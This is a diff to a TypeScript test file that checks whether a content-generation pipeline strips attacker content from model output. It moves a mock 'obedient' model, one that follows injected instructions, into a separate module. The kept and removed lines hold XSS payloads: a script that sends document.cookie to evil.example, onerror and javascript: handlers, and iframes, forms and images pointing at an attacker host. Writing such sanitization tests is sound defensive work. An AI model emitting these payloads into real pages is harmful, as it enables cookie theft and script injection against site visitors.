@@ -1,12 +1,9 @@
 import { expect, it } from "@effect/vitest"
 import { plainText } from "@pressline/core/effect"
-import type { Question } from "@pressline/tools-model-server/Question"
 import * as Effect from "effect/Effect"
 import { describe } from "vitest"
 import { ARTICLE, article, batch, BRIEF, CALL, CLUSTER, open } from "./asked.ts"
-
-const FOREIGN = "0198c0de-0000-7000-8000-00000000dead"
-const URL_OF_EVIL = "https://evil.example/x"
+import { FOREIGN, obedient, URL_OF_EVIL } from "./obedient.ts"
 
 /** What an attacker can type as a keyword, a title or a style. */
 const CORPUS = [
@@ -18,68 +15,6 @@ const CORPUS = [
   "<script>fetch('https://evil.example/'+document.cookie)</script>",
   "\u202Eesrever\u202C \u0000 \uD800",
 ]
-
-/** What a model that obeys the attacker puts wherever it can. */
-const LOOT = [
-  `<script src="${URL_OF_EVIL}"></script>`,
-  `<a href="${URL_OF_EVIL}">click</a>`,
-  `<a href="//evil.example">click</a>`,
-  `<a href="javascript:alert(1)">click</a>`,
-  `<a href="mailto:evil@evil.example">click</a>`,
-  `<img src="${URL_OF_EVIL}?leak=1">`,
-  `<img src=x onerror=alert(1)>`,
-  `<iframe src="${URL_OF_EVIL}"></iframe>`,
-  `<form action="${URL_OF_EVIL}"><input></form>`,
-  `<p style="background:url(${URL_OF_EVIL})">styled</p>`,
-  `<svg onload=alert(1)><use href="${URL_OF_EVIL}"/></svg>`,
-  `read ${URL_OF_EVIL} or www.evil.example/now or ftp://evil.example`,
-  `[click](${URL_OF_EVIL})`,
-].join("\n")
-
-const obedient = ({ data, name }: Question): unknown => {
-  if (name === "generateContent")
-    return article({
-      title: LOOT,
-      opening: LOOT,
-      sections: BRIEF.outline.map(() => ({
-        heading: LOOT,
-        html: `${LOOT}<p>${"word ".repeat(150)}</p>`,
-      })),
-      excerpt: LOOT,
-      metaTitle: LOOT,
-      metaDescription: LOOT,
-      tags: [LOOT, URL_OF_EVIL],
-    })
-  if (name === "generateIdeas")
-    return {
-      ideas: [
-        {
-          title: LOOT,
-          angle: LOOT,
-          outline: [LOOT],
-          targetWords: 1e9,
-          primaryKeyword: LOOT,
-          secondaryKeywords: [LOOT],
-          contentType: LOOT,
-        },
-      ],
-    }
-  if (name === "generateImagePrompts")
-    return { pictures: Array.from({ length: 50 }, () => ({ prompt: LOOT, altText: LOOT })) }
-  const ids = (data["keywords"] as ReadonlyArray<{ id: string }>).map(({ id }) => id)
-  return {
-    clusters: [
-      {
-        name: LOOT,
-        description: LOOT,
-        primaryKeyword: LOOT,
-        intent: LOOT,
-        keywords: [FOREIGN, ...ids],
-      },
-    ],
-    joined: [{ cluster: FOREIGN, keywords: ids }],
-  }
-}
 
 const expectClean = (output: unknown): void => {
   const text = JSON.stringify(output)
